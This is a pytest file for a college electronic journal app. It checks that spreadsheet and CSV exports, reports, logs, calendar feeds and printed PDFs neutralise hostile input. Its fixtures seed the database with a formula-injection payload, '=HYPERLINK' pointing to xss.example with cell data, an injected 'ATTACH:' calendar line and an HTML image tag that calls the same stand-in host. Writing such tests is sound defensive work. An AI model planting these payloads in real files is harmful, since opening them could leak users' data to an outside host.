"""What leaves the journal as a file runs nothing where it is opened: spreadsheets, calendars, printed documents."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date

import pytest
import sqlalchemy as sa
from pypdf import PdfReader
from werkzeug.test import TestResponse

from attack import hostile
from attack.college import College
from ejournal.exchange import exporter
from ejournal.extensions import db
from ejournal.models import Account, Role, RoleGrant
from ejournal.services import settings
from ejournal.services.reports import registry
from ejournal.web import pace

FORMULA = '=HYPERLINK("http://xss.example/?"&A1;"xss")\r\nATTACH:http://xss.example/'
SHORT = "=1+1"


@pytest.fixture(scope="module")
def poisoned(college: College) -> College:
    """Formulas in every column; the curator holds every role of an employee."""
    with college.app.app_context():
        hostile.fill_empty_tables()
        hostile.poison(FORMULA, SHORT)
        person = db.session.scalars(sa.select(Account.person_id).where(Account.username == "curator")).one()
        for role in (Role.ADMINISTRATION, Role.SYSADMIN):
            db.session.add(RoleGrant(person_id=person, role=role, since=date(2020, 1, 1)))
        db.session.commit()
        settings.forget()
        db.session.remove()
    return college


def test_no_list_brings_a_formula(poisoned: College) -> None:
    found = []
    for kind in exporter.KINDS:
        for form in ("csv", "xlsx"):
            answer = _post(poisoned, "/admin/export", {"kind": kind, "form": form, **_first(poisoned)})
            if answer.status_code == 302:
                assert kind == "everything" or form == "csv", kind
                continue
            for name, content in _unpacked(kind, answer.data):
                found += [f"{kind}.{form} {name}: {cell}" for cell in _formulas(content)]
    assert found == []


def test_no_report_and_no_log_brings_a_formula(poisoned: College) -> None:
    found = []
    addresses = [("POST", f"/reports/{key}/xlsx") for key in registry.all_reports()] + [("GET", "/admin/log.xlsx")]
    for method, address in addresses:
        poisoned.app.extensions.pop(pace.EXTENSION, None)
        answer = poisoned.client("curator").open(address, method=method)
        if answer.status_code == 302:
            assert address == "/reports/control-history/xlsx", address  # no night has kept figures yet
            continue
        assert answer.status_code == 200, address
        assert answer.data.startswith(b"PK"), address
        found += [f"{address}: {cell}" for cell in _formulas(answer.data)]
    assert found == []


def test_a_calendar_takes_no_line_from_what_was_typed(poisoned: College) -> None:
    address = re.search(r"/calendar/[\w-]{20,}\S*\.ics|/calendar/[\w-]{20,}", _calendar(poisoned))
    assert address
    feed = poisoned.app.test_client().get(address[0]).text
    assert "HYPERLINK" in feed
    lines = feed.replace("\r\n ", "").split("\r\n")
    assert [line for line in lines if line.startswith("ATTACH")] == []
    assert all(re.match(r"[A-Z-]+[;:]", line) for line in lines if line)


def test_a_printed_document_shows_hostile_text_as_text(poisoned: College) -> None:
    """Whatever a template names would be fetched or drawn (docs/architecture.md): so nothing of it is an element."""
    with poisoned.app.app_context():
        hostile.poison('<img src="http://xss.example/x.png"><b>жир', "<b>ж")
        settings.forget()
        db.session.remove()
    printed = 0
    for rule in poisoned.rules("POST"):
        if rule.endpoint in {"documents.attendance_sheet", "documents.student_statement", "documents.journal_book"}:
            answer = _post(poisoned, poisoned.address(rule, **_of_group(poisoned)), {"period": "1"})
            if answer.data.startswith(b"%PDF"):
                reader = PdfReader(io.BytesIO(answer.data))
                text = "".join(page.extract_text() for page in reader.pages)
                assert "<b>" in text.replace(" ", ""), rule.endpoint
                assert not any(page.get("/Annots") for page in reader.pages), rule.endpoint
                printed += 1
    assert printed >= 1


def _post(college: College, address: str, form: dict[str, str]) -> TestResponse:
    college.app.extensions.pop(pace.EXTENSION, None)
    return college.client("curator").post(address, data=form)


def _first(college: College) -> dict[str, str]:
    with college.app.app_context():
        code = db.session.scalars(sa.text("SELECT code FROM programme ORDER BY id LIMIT 1")).one()
        return {"group": "1", "course": "1", "programme": code}


def _of_group(college: College) -> dict[str, int]:
    with college.app.app_context():
        student, group = db.session.execute(sa.text("SELECT student_id, group_id FROM enrollment LIMIT 1")).one()
        return {"student_id": student, "group_id": group}


def _calendar(college: College) -> str:
    client = college.client("student")
    with college.app.app_context():
        student = db.session.scalars(sa.select(Account.person_id).where(Account.username == "student")).one()
    return client.post(f"/diary/{student}/calendar", follow_redirects=True).text


def _unpacked(kind: str, content: bytes) -> Iterator[tuple[str, bytes]]:
    if kind != "everything":
        yield kind, content
        return
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith((".xlsx", ".csv")):
                yield name, archive.read(name)


def _formulas(content: bytes) -> list[str]:
    """What a spreadsheet would work out or follow."""
    if not content.startswith(b"PK"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        harmless = re.compile(r"[+-]?[\d ()-]*")
        return [
            cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell and not harmless.fullmatch(cell)
        ]
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >].{0,60}|<hyperlink .{0,60}", book.read(name).decode())
    return found
